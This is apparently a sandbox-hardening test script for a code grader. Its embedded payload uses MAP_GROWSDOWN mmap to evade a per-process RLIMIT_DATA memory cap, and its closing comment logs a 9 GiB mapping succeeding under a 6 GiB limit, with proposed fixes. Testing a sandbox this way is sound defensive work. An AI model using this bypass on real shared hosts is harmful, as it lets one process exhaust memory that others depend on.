# a04: RLIMIT_DATA (the per-process memory cap as an ordinary user: 6 GiB) counts only "data" mappings. The kernel
# accounts a mapping with VM_GROWSDOWN as stack (vm_stat_account: is_stack_mapping), and may_expand_vm checks the
# data limit for data mappings only: mmap(MAP_PRIVATE|MAP_ANONYMOUS|MAP_GROWSDOWN) of any size is refused only by
# RLIMIT_AS (memory cap + 16 GiB = 22 GiB since round 9). The kernel maps 9 GiB that way and touches every page
# (a plain anonymous mapping of the same size first, for comparison: refused), reads its RSS and the host's
# MemAvailable, holds it 10 s, frees it. Kept at 9 GiB so as not to take the shared machine down.
# RESULT: see the end of this file.
from u10 import *
PAYLOAD = r'''
import ctypes, errno, mmap, os, time
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
MAP_GROWSDOWN, MAP_NORESERVE = 0x100, 0x4000
SIZE = 9 << 30
def avail():
    return {l.split(":")[0]: int(l.split()[1]) >> 10 for l in open("/proc/meminfo") if l.split(":")[0] in ("MemAvailable", "AnonPages")}
def rss():
    return {l.split(":")[0]: l.split(":")[1].strip() for l in open("/proc/self/status") if l.startswith(("VmRSS", "VmData", "VmStk"))}
print("limits:", [l.strip() for l in open("/proc/self/limits") if l.startswith(("Max data", "Max address"))])
p = libc.mmap(None, SIZE, 3, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, -1, 0)
print("plain 9 GiB anonymous mmap ->", hex(p or 0), errno.errorcode.get(ctypes.get_errno()))
before = avail()
p = libc.mmap(None, SIZE, 3, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_GROWSDOWN, -1, 0)
print("MAP_GROWSDOWN 9 GiB mmap ->", hex(p or 0), errno.errorcode.get(ctypes.get_errno()) if p in (None, 2**64 - 1) else "OK")
t = time.time()
step = 256 << 20
for off in range(0, SIZE, step):
    ctypes.memset(p + off, 1, step)
print(f"touched 9 GiB in {time.time() - t:.1f}s:", rss(), "host MiB before", before, "after", avail(), flush=True)
time.sleep(10)
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
print("munmap", libc.munmap(p, SIZE), avail())
'''
nb = notebook(append={"training_memory": PAYLOAD})
if __name__ == "__main__":
    d, p = ugrade("a04", {"growsdown": nb, "honest": u7.honest()})
    outputs(d, "growsdown")
# RESULT (16:22-16:25 UTC, a04.out.txt): BROKEN (caps that cap, ordinary user). Inside the kernel (limits: data
# 6,442,450,944, address space 23,622,320,128): a plain 9 GiB anonymous mmap -> ENOMEM (RLIMIT_DATA works), the same
# with MAP_GROWSDOWN -> OK; every page touched: VmRSS 9,714,100 kB, VmData 411,764 kB, VmStk 9,437,316 kB; host
# MemAvailable 19,981 -> 11,633 MiB, AnonPages 3,199 -> 11,568 MiB; held 10 s, then munmap (MemAvailable back to
# 19,516). So one process holds 9.3 GiB under a 6 GiB per-process memory cap; by RLIMIT_AS alone it could hold ~21 GiB,
# and every one of its up to 268 processes the same: the memory of an ordinary-user grader's host is not capped by
# anything but RLIMIT_AS (memory cap + 16 GiB a process, round 9's page-table fix). Not tried past 9 GiB (shared
# machine). The honest student graded beside it: 24/24. Fix idea: refuse MAP_GROWSDOWN in the seccomp filter (mmap's
# flags are already inspected for MAP_SHARED|MAP_ANONYMOUS), and cap RLIMIT_STACK's hard limit (the main thread's
# stack is accounted the same way: setrlimit(RLIMIT_STACK, unlimited) + exec gives a legacy layout whose stack grows
# to RLIMIT_AS too), or set RLIMIT_AS to the memory cap itself where no cgroup counts memory.
